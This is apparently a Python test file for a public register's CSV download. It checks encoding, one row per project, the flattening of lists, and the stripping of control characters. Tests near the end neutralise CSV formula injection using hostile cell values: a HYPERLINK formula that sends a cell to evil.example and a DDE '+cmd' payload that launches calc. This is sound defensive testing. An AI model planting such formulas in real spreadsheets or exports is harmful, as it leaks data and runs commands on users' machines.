"""The register as CSV: one row a project, one column a key, readable in a spreadsheet."""

import csv
import io

import pytest

from opendata.register_format import register_schema
from tests.opendata.open_data_register import TRICKY_ANSWER, make_register

pytestmark = pytest.mark.django_db


def download(client, url="/register.csv"):
    response = client.get(url)
    assert response.status_code == 200
    return response


def rows(response) -> list[dict]:
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def published_ids():
    return make_register()


def test_csv_is_utf8_with_a_byte_order_mark_and_a_header(client, published_ids):
    response = download(client)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="charter-register.csv"' in response["Content-Disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    header = next(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert header == list(register_schema()["$defs"]["project"]["properties"])
    assert header[:4] == ["id", "url", "version", "title"]
    assert "contest" in header


def test_one_row_per_published_project(client, published_ids):
    assert sorted(row["id"] for row in rows(download(client))) == sorted(published_ids)


def test_quotes_newlines_and_non_ascii_survive(client, published_ids):
    by_id = {row["id"]: row for row in rows(download(client))}
    fire = by_id["fire-safety-visits"]
    assert fire["purpose"] == TRICKY_ANSWER
    assert (
        "Ré Ñandú, Data Scientist, Example Analytics Ltd, 0151 000 0000"
        in fire["responsible_people"]
    )


def test_lists_organisations_and_people_are_flattened_readably(client, published_ids):
    fire = {row["id"]: row for row in rows(download(client))}["fire-safety-visits"]
    assert fire["areas"] == "wirral; halton"
    assert fire["topics"] == "community_safety; health"
    assert fire["uses_ai"] == "yes"
    assert fire["version"] == "2"
    assert fire["start_date"] == "2025-04"
    assert fire["organisations"] == (
        "Example Fire and Rescue Service (Public service, lead, signed the Charter 2025-07-03, "
        "NHS code RBQ); Example Analytics Ltd (Commercial, supplier, Companies House 01234567): "
        "Builds and runs the risk model."
    )
    assert fire["responsible_people"] == (
        "Jo Example, Head of Prevention, Example Fire and Rescue Service, "
        "prevention@fire.example.org (accountable, contact for the public); "
        "Ré Ñandú, Data Scientist, Example Analytics Ltd, 0151 000 0000 "
        "(correcting and updating algorithms, monitoring)"
    )
    assert fire["principles"].startswith("1 Beneficial: ")
    assert "; 2 Security: " in fire["principles"]
    school = {row["id"]: row for row in rows(download(client))}["school-place-planning"]
    assert school["uses_ai"] == "no"
    assert school["ai_kinds"] == ""
    assert school["ai_decision_role"] == ""
    assert school["website"] == ""


def test_a_cell_that_looks_like_a_formula_is_neutralised(client):
    from tests.factories import PublishedProjectFactory

    PublishedProjectFactory(slug="formula", title='=HYPERLINK("http://bad.example")')
    PublishedProjectFactory(slug="phone", title="Phone", purpose="+44 151 000 0000")
    by_id = {row["id"]: row for row in rows(download(client))}
    assert by_id["formula"]["title"] == '\'=HYPERLINK("http://bad.example")'
    assert by_id["phone"]["purpose"] == "+44 151 000 0000"


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize("formula", [EVIL, "+cmd|' /C calc'!A0", "@SUM(A1)", "-1+2"])
def test_list_cells_that_start_with_a_formula_are_neutralised(client, formula):
    """A responsible person or a lead organisation whose name is a formula: the cell that
    lists them starts with it, and is kept as text like every other cell."""
    from tests.factories import OrganisationFactory, PublishedProjectFactory

    project = PublishedProjectFactory(
        slug="formula-lists", with_organisation=OrganisationFactory(name=formula), with_people=False
    )
    project.responsible_people.create(
        name=formula, job_title="Lead", organisation="X", contact="a@example.org", duties=[]
    )
    row = rows(download(client))[0]
    for key in ("organisations", "responsible_people"):
        assert row[key].startswith("'" + formula), key
    assert all(not cell.startswith(("=", "+", "@", "-")) for cell in row.values())


def test_stored_control_characters_never_break_the_csv(client):
    from tests.factories import PublishedProjectFactory

    PublishedProjectFactory(slug="controls", title="Bell\x07 and \x1b escape")
    response = download(client)
    assert response.status_code == 200
    assert rows(response)[0]["title"] == "Bell and  escape"


def test_an_empty_register_is_a_header_row(client):
    text = download(client).content.decode("utf-8-sig")
    assert text.count("\r\n") == 1
    assert text.startswith("id,url,version,title,")
